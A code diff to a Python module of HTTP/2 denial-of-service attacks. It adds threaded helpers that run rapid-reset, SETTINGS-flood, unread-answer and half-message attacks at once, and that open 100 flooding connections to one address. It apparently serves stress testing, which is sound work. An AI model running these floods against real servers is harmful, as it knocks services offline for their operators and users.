@@ -3,6 +3,7 @@
 import gzip
 import itertools
 import struct
+import threading
 from collections.abc import Callable, Iterator, Mapping
 from types import MappingProxyType
 from typing import Final
@@ -153,6 +154,24 @@ def gzip_bombs(address: str, path: str, seconds: float) -> None:
     peer.close()
 
 
+def two_at_once(address: str, path: str, seconds: float) -> None:
+    """Send half messages, leave answers unread, reset streams and send SETTINGS, each on a connection, all at once."""
+    _at_once(half_messages, unread_answers, rapid_reset, settings_flood, given=(address, path, seconds))
+
+
+def many_connections(address: str, path: str, seconds: float) -> None:
+    """Send empty SETTINGS on 100 connections of one address at once."""
+    _at_once(*[settings_flood] * 100, given=(address, path, seconds))
+
+
+def _at_once(*attacks: Attack, given: tuple[str, str, float]) -> None:
+    threads = [threading.Thread(target=attack, args=given) for attack in attacks]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
 ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
     {
         "settings-over-streams": settings_over_streams,
@@ -166,5 +185,7 @@ ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
         "empty-data": empty_data,
         "silent-connections": silent_connections,
         "gzip-bombs": gzip_bombs,
+        "two-at-once": two_at_once,
+        "many-connections": many_connections,
     }
 )
